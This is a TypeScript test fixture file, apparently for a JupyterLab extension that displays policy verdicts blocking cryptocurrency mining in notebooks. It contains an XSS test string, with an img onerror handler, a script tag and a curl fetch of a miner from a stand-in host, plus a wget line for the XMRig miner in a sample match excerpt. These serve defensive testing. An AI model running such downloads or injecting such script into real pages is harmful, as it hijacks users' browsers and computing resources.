import type { TranslationBundle } from '@jupyterlab/translation';

import type { IVerdictPayload, IVerdictRecord } from '../src/types';

function fmt(s: string, args: unknown[]): string {
  return s.replace(/%(\d+)/g, (m, i) =>
    args[Number(i) - 1] !== undefined ? String(args[Number(i) - 1]) : m
  );
}

/** A TranslationBundle with JupyterLab's gettext semantics (for _n, %1 is n). */
export const trans = {
  __: (msgid: string, ...args: unknown[]) => fmt(msgid, args),
  _n: (msgid: string, plural: string, n: number, ...args: unknown[]) =>
    fmt(n === 1 ? msgid : plural, [n, ...args]),
  _p: (_ctx: string, msgid: string, ...args: unknown[]) => fmt(msgid, args),
  _np: (_ctx: string, msgid: string, plural: string, n: number, ...args: unknown[]) =>
    fmt(n === 1 ? msgid : plural, [n, ...args]),
  gettext: (msgid: string, ...args: unknown[]) => fmt(msgid, args),
  ngettext: (msgid: string, plural: string, n: number, ...args: unknown[]) =>
    fmt(n === 1 ? msgid : plural, [n, ...args]),
  pgettext: (_ctx: string, msgid: string, ...args: unknown[]) => fmt(msgid, args),
  npgettext: (_ctx: string, msgid: string, plural: string, n: number, ...args: unknown[]) =>
    fmt(n === 1 ? msgid : plural, [n, ...args]),
  dcnpgettext: (
    _d: string,
    _ctx: string,
    msgid: string,
    plural: string,
    n: number,
    ...args: unknown[]
  ) => fmt(n === 1 ? msgid : plural, [n, ...args])
} as unknown as TranslationBundle;

export const XSS =
  '!curl http://x.example/xmrig <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script>';

export function payload(
  overrides: Partial<IVerdictPayload> & { ruleId?: string } = {}
): IVerdictPayload {
  const { ruleId = 'mining.xmrig', ...rest } = overrides;
  return {
    version: 1,
    action: 'block',
    mode: 'enforce',
    policy: 'Test policy',
    rules: [
      {
        id: ruleId,
        title: 'XMRig cryptocurrency miner',
        category: 'mining',
        severity: 'high',
        action: 'block',
        message: 'Cryptocurrency mining is not allowed on this service.',
        matches: [
          {
            line: 2,
            column: 25,
            end_line: 2,
            end_column: 47,
            exact: true,
            excerpt: 'x = 1; !wget https://github.com/xmrig/xmrig/releases/x.tar.gz',
            matched: 'github.com/xmrig/xmrig',
            matcher: 'repo',
            via: []
          }
        ]
      }
    ],
    info_url: 'https://example.org/terms',
    appeal_url: 'https://example.org/appeal',
    contact: null,
    ...rest
  };
}

let counter = 0;

export function record(
  p: IVerdictPayload,
  overrides: Partial<IVerdictRecord> = {}
): IVerdictRecord {
  counter += 1;
  return {
    time: new Date(Date.UTC(2026, 0, 1, 0, 0, counter)).toISOString(),
    kernel_id: 'k1',
    msg_id: `msg-${counter}`,
    notebook_path: 'work/analysis.ipynb',
    verdict: p,
    ...overrides
  };
}
